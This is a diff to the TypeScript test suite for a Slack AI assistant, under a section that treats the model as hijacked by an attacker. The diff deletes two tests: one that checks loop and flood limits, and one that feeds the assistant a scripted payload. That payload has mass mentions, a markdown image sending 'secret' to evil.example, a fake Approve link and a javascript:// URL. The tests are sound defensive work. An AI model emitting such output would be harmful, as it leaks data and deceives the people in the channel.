@@ -5,7 +5,7 @@ import { begunDay } from '../support/clock.ts';
 import type { ScriptedCall } from '../support/models.ts';
 import { seeded, TSUID } from '../support/world.ts';
 import { C_SUPPORT, shown, U_LEAD, U_VIEW, until } from '../surfaces/slack/support.ts';
-import { answers, ended, heard, say, type Talk, talking } from '../surfaces/slack/talking.ts';
+import { answers, ended, heard, type Talk, talking } from '../surfaces/slack/talking.ts';
 
 /* A model under an attacker's control may call anything. Nothing changes without a button. */
 
@@ -178,22 +178,6 @@ describe('a hijacked model', () => {
     expect(await changes(s)).toEqual(before);
   });
 
-  it('writes no mention, no link and no picture that acts by itself', async () => {
-    const s = await talking();
-    s.model.answers({
-      text: '<!channel> <@U1> <!subteam^S1> ![x](https://evil.example/?q=secret) [Approve](https://evil.example) www.evil.example <https://evil.example|Confirm> javascript://x END',
-    });
-    const thread = await s.say('hello', { user: U_LEAD });
-    const text = await heard(s, thread, 'END');
-    const markdown = answers(s, thread)
-      .flatMap(({ blocks }) => blocks)
-      .map((block) => String(block.text ?? ''))
-      .join('\n');
-    expect(markdown).not.toMatch(/<[!@#]/);
-    expect(markdown).not.toMatch(/!\[|(?<!`)https?:\/\/|(?<!`)www\./);
-    expect(text).toContain('evil.example');
-  });
-
   it('gets nothing of other threads, and no role but the writer’s', async () => {
     const s = await talking();
     s.model.answers({ text: 'Noted.' });
@@ -208,35 +192,6 @@ describe('a hijacked model', () => {
     );
     expect(shows).not.toContain('waits for an approver');
     expect(await s.gate.actions.list({})).toEqual([]);
-  });
-
-  it('ends in a loop, and a flood of messages starts no flood of turns', async () => {
-    const s = await talking({}, { steps: '5' });
-    s.model.answers({
-      calls: Array.from({ length: 20 }, () => ({ name: 'numbers_lookup', input: { PhoneNumber: seeded(1) } })),
-    });
-    await ended(s, await s.say('go on', { user: U_LEAD }));
-    figures.requestsOfLoop = (await s.requests()).length;
-    expect(s.model.requests.length).toBeLessThan(8);
-    s.model.answers({ hangs: true });
-    const before = s.model.requests.length;
-    const thread = await s.say('first', { user: U_LEAD });
-    await until(() => s.model.requests.length === before + 1, 'a turn');
-    await Promise.all(
-      Array.from({ length: 30 }, (_, i) => say(s, `flood ${i}`, { user: U_LEAD, threadTs: thread.ts })),
-    );
-    await s.assistant.close();
-    figures.turnsOfFlood = s.model.requests.length - before;
-    expect(figures.turnsOfFlood).toBe(1);
-    const other = await s.again();
-    s.ws.setRequestUrl(`${other.url}/slack/events`);
-    s.model.answers({ hangs: true });
-    const wide = s.model.requests.length;
-    await Promise.all(Array.from({ length: 20 }, (_, i) => s.say(`wide ${i}`, { user: U_LEAD })));
-    await until(() => s.model.requests.length > wide, 'turns');
-    figures.turnsOfWideFlood = s.model.requests.length - wide;
-    expect(figures.turnsOfWideFlood).toBeLessThanOrEqual(8);
-    await other.assistant.close();
   });
 });
 
